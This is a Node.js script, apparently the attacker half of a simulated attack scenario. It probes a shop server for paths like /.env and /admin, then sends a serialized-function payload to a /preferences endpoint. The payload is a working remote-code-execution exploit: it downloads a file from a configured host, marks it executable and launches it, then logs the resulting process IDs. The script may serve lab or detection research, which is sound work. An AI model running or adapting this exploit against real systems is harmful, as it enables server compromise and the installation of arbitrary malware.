// The attacker: looks around in the shop, then sends the request that runs code in it. usage: attacker.mjs JSON
import { request } from "node:http";
import { config, note, now } from "./note.mjs";

function send(method, path, body) {
  return new Promise((resolve) => {
    const started = now();
    const options = {
      host: config.shopAddress,
      port: config.shopPort,
      method,
      path,
      localAddress: config.address,
      timeout: 8000,
      agent: false,
    };
    const call = request(options, (response) => {
      const chunks = [];
      response.on("data", (chunk) => chunks.push(chunk));
      response.on("end", () =>
        resolve({
          started,
          status: response.statusCode,
          local,
          text: Buffer.concat(chunks).toString(),
        }),
      );
    });
    let local = "";
    call.on("socket", (socket) =>
      socket.on("connect", () => (local = `${socket.localAddress}:${socket.localPort}`)),
    );
    call.on("timeout", () => call.destroy());
    call.on("error", (error) => resolve({ started, status: 0, local, text: error.message }));
    call.end(body);
  });
}

for (const path of ["/", "/robots.txt", "/admin", "/.env", "/server-status", "/preferences"]) {
  const { started, status } = await send("GET", path);
  note({
    ts: started,
    act: "probe",
    path,
    status,
    peer: `${config.shopAddress}:${config.shopPort}`,
  });
  await new Promise((resolve) => setTimeout(resolve, config.probeMs));
}

const payload = `function () {
  const http = require("http");
  const fs = require("fs");
  const { exec } = require("child_process");
  const path = ${JSON.stringify(config.drop)};
  return new Promise((resolve) => {
    http.get(${JSON.stringify(config.fetch)}, (response) => {
      const out = fs.createWriteStream(path);
      let bytes = 0;
      response.on("data", (chunk) => (bytes += chunk.length));
      response.pipe(out);
      out.on("close", () => {
        fs.chmodSync(path, 0o755);
        const child = exec(path + " -a");
        resolve({ bytes, node: process.pid, shell: child.pid });
      });
    }).on("error", (error) => resolve({ error: error.message }));
  });
}()`;
const body = JSON.stringify({ theme: `_$$FN$$_${payload}` });
const answer = await send("POST", "/preferences", body);
let done = {};
try {
  done = JSON.parse(answer.text).theme ?? {};
} catch {
  done = { error: answer.text };
}
const peer = `${config.shopAddress}:${config.shopPort}`;
note({
  ts: answer.started,
  act: "exploit",
  path: "/preferences",
  status: answer.status,
  peer,
  from: answer.local,
  bytes: body.length,
  fetched: done.bytes,
  node: done.node,
  shell: done.shell,
  error: done.error,
});
process.exit(answer.status === 200 && done.shell !== undefined ? 0 : 1);
